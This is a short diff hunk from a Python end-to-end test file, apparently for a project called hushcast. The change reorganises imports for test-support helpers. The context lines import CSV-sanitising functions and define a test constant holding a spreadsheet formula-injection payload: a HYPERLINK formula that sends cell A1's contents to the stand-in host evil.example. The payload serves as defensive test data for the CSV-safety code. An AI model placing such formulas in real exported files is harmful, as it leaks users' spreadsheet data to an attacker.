@@ -12,9 +12,9 @@ from typing import Any
 import httpx
 
 from hushcast.core.csvsafe import FORMULA_STARTS, safe_cell
-from tests.conftest import LiveService
-from tests.e2e.helpers import broadcast_done, create_message, wait_for
-from tests.e2e.test_broadcast_e2e import connect_bot
+from tests.support.live import broadcast_done, connect_bot, create_message
+from tests.support.service import LiveService
+from tests.support.waiting import wait_for
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 EVIL = [
